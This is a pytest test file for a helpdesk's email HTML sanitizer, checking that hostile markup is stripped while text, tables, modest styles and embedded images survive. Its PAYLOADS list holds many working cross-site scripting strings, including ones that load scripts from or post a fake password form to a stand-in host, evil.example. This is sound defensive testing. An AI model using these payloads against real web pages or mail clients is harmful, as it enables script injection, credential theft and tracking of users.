"""Script payloads leave nothing behind; a client's words and pictures stay."""

import re
from html.parser import HTMLParser

import pytest

from helpdesk.mail.cleaning import ATTRIBUTES, TAGS, clean_html, mail_document
from helpdesk.mail.linking import text_to_html

PAYLOADS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img/src="x"/onerror=alert(1)>',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<img src="/logout">',
    '<img src="//evil.example/p.gif">',
    '<img src="logout">',
    '<img src="?delete=1">',
    '<img srcset="https://evil.example/a 2x" lowsrc="x" dynsrc="x">',
    '<img src="cid:unknown">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="/tickets/1/closing">x</a>',
    '<a href="#top" onclick="alert(1)">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="https://x.example" target="_self" rel="opener" ping="https://evil.example">x</a>',
    '<a href="cid:x">x</a>',
    '<div onmouseover="alert(1)">x</div>',
    "<body onload=alert(1)>x</body>",
    '<p style="background:url(https://evil.example/x)">x</p>',
    '<p style="background-color:url(javascript:alert(1))">x</p>',
    '<p style="color:expression(alert(1))">x</p>',
    '<p style="position:fixed;top:0;width:100%;color:red">x</p>',
    '<p style="color:red;behavior:url(x.htc)">x</p>',
    '<p style="color:\\75rl(x)">x</p>',
    '<p style="-moz-binding:url(x)">x</p>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
    "<input autofocus onfocus=alert(1)>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<select><option>x</select>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<applet code="x"></applet>',
    '<video src="https://evil.example/x" onerror=alert(1)></video>',
    '<audio src="x" onerror=alert(1)>',
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,x"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><?php echo 1 ?>",
    '<div hx-get="/logout" hx-trigger="load">x</div>',
    '<div data-hx-post="/tickets/1/closing" data-hx-trigger="load">x</div>',
    '<p id="content" name="x" class="modal" slot="x" is="x-y" contenteditable>x</p>',
    '<custom-element onclick="alert(1)">x</custom-element>',
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    '<marquee onstart="alert(1)">x</marquee>',
    '<table background="javascript:alert(1)"><td background="https://evil.example/x">x</table>',
    '<font color="red" size="9" face="x" onclick=alert(1)>x</font>',
    '<p title="<script>alert(1)</script>">x</p>',
    "<p\x00 onclick=alert(1)>x</p>",
    "<img src='https://x.example/a' width='1e9' height='javascript:1'>",
]
LINK = re.compile(r"(?:https?:|mailto:|tel:|cid:)", re.IGNORECASE)
PICTURE = re.compile(r"data:image/(?:png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+\Z")


class Inspector(HTMLParser):
    """Collects everything in cleaned HTML that should not be there."""

    def __init__(self) -> None:
        super().__init__()
        self.foreign: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        allowed = (
            ATTRIBUTES["*"] | ATTRIBUTES.get(tag, frozenset()) | ({"rel", "target"} if tag == "a" else set())
        )
        self.foreign += [tag] if tag not in TAGS else []
        self.foreign += [f"{tag}.{name}" for name, _ in attrs if name not in allowed]
        self.foreign += [
            f"{name}={value}" for name, value in attrs if not self.is_harmless(name, value or "")
        ]

    def is_harmless(self, name: str, value: str) -> bool:
        expected = {"href": LINK, "src": PICTURE}
        if name == "style":
            return not re.search(r"url|expression|\\|position|behavior|binding|@", value, re.IGNORECASE)
        return name not in expected or bool(expected[name].match(value))

    def handle_comment(self, data: str) -> None:
        self.foreign.append(data)

    def handle_decl(self, decl: str) -> None:
        self.foreign.append(decl)

    def handle_pi(self, data: str) -> None:
        self.foreign.append(data)


def foreign_in(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.foreign


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_leaves_nothing(payload: str) -> None:
    assert foreign_in(clean_html(f"<p>before</p>{payload}<p>after</p>").html) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_inside_a_table_leaves_nothing(payload: str) -> None:
    assert foreign_in(clean_html(f"<table><tr><td>{payload}</td></tr></table>{payload * 2}").html) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_cleaning_twice_changes_nothing(payload: str) -> None:
    once = clean_html(f"<p>before</p>{payload}<p>after</p>").html
    assert clean_html(once).html == once


def test_words_tables_and_modest_styles_stay() -> None:
    kept = '<table><tbody><tr><td colspan="2" style="color:red"><b>Sum</b></td></tr></tbody></table>'
    assert clean_html(kept).html == kept


def test_words_inside_a_form_are_not_lost() -> None:
    assert clean_html("<form><p>The whole letter</p></form>").html == "<p>The whole letter</p>"


def test_links_open_outside_and_say_nothing_about_us() -> None:
    found = clean_html('<a href="https://x.example/a">x</a>').html
    assert 'target="_blank"' in found
    assert 'rel="noopener noreferrer nofollow"' in found


def test_remote_pictures_are_taken_out_and_counted() -> None:
    found = clean_html('<img src="https://x.example/a.png" alt="A"><img src="http://y.example/b.gif">')
    assert found.html == '<img alt="A"><img>'
    assert found.remote_images == ("https://x.example/a.png", "http://y.example/b.gif")
    assert found.blocked_images == 2


def test_pictures_of_the_mail_itself_are_shown() -> None:
    found = clean_html('<img src="CID:Shot%40x">', {"<shot@x>": ("image/png", b"PNG")})
    assert found.html == '<img src="data:image/png;base64,UE5H">'


@pytest.mark.parametrize("named", ["Logo@x", "logo%40x", "cid:logo@x"])
def test_a_picture_that_is_named_by_its_bare_id_is_shown_too(named: str) -> None:
    html = f'<img src="{named}"><img src="other@x"><img src=http://firm.example/logo.png>'
    own = ("image/png", b"PNG")
    found = clean_html(html, {"logo@x": own, "http://firm.example/logo.png": own})
    shown = '<img src="data:image/png;base64,UE5H">'
    assert (found.html, found.remote_images) == (f"{shown}<img>{shown}", ())


@pytest.mark.parametrize(
    ("content_type", "size"), [("image/svg+xml", 9), ("text/html", 9), ("image/png", 2_000_001)]
)
def test_other_files_and_huge_pictures_are_not_shown(content_type: str, size: int) -> None:
    assert clean_html('<img src="cid:x">', {"x": (content_type, b"x" * size)}).html == "<img>"


def test_many_repeats_of_one_picture_stop_at_the_limit() -> None:
    found = clean_html('<img src="cid:x">' * 50, {"x": ("image/png", b"x" * 1_900_000)})
    assert found.html.count("data:") == 4


DEEP = [
    "<div>",
    '<div title="</div>">',
    '<div title="></div>">',
    "<div x=</div>",
    "<div></b>",
    "<div><!--</div>-->",
    "<!--><div>-->",
    "<div><style></div></style>",
    "<div><table><td></div>",
    "<div></div",
    "&a&b&#&",
]


@pytest.mark.parametrize("piece", DEEP)
def test_html_nested_beyond_measure_is_shown_as_text_at_once(piece: str) -> None:
    assert clean_html("<p>Words</p>" + piece * 20_000).is_text_only


@pytest.mark.parametrize("piece", ["<p>x", "<div><b>x</b><br></div>", "<table><tr><td>x</table>", "<li>x"])
def test_long_html_that_is_not_nested_is_cleaned_as_usual(piece: str) -> None:
    assert not clean_html(piece * 20_000).is_text_only


def test_plain_text_is_shown_with_links_and_quotes() -> None:
    found = text_to_html("See https://x.example/a?b=1&c=2.\nor (www.y.example)\n\n> old <b>\n>> older")
    link = 'target="_blank" rel="noopener noreferrer nofollow"'
    assert found == (
        f'<p>See <a href="https://x.example/a?b=1&amp;c=2" {link}>https://x.example/a?b=1&amp;c=2</a>.<br>'
        f'or (<a href="https://www.y.example" {link}>www.y.example</a>)</p>'
        "<blockquote><p>old &lt;b&gt;</p><blockquote><p>older</p></blockquote></blockquote>"
    )


@pytest.mark.parametrize(
    "text",
    [
        "javascript:alert(1)",
        '"><script>alert(1)</script>',
        "https://x.example/\"onmouseover='alert(1)'",
        "a@b.example",
    ],
)
def test_plain_text_never_becomes_markup(text: str) -> None:
    shown = text_to_html(text)
    assert foreign_in(shown) == []
    assert foreign_in(clean_html(shown).html) == []


def test_the_page_of_a_mail_escapes_its_title() -> None:
    page = mail_document("<p>x</p>", language='"><script>', title="</title><script>alert(1)</script>")
    assert "<script>" not in page
    assert page.startswith("<!doctype html>")


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ('<table><tr><td bgcolor="#0a3d62">x</td></tr></table>', 'bgcolor="#0a3d62"'),
        ('<td bgcolor="url(x)">x</td>', None),
        ('<p style="background: #0a3d62 none;color:#fff">x</p>', "background-color:#0a3d62"),
        ('<p style="BACKGROUND:navy">x</p>', "background-color:navy"),
        ('<p style="background:linear-gradient(red,blue);color:red">x</p>', None),
        ('<body style="background:#111" text="#fff"><p>x</p></body>', "background-color:#111"),
        ('<table border="1"><tr><td>x</td></tr></table>', 'border="1"'),
    ],
)
def test_light_words_keep_the_dark_ground_they_stand_on(written: str, kept: str | None) -> None:
    cleaned = clean_html(written).html
    assert "x" in cleaned
    assert kept in cleaned if kept else "ground" not in cleaned and "bgcolor" not in cleaned
    assert clean_html(cleaned).html == cleaned
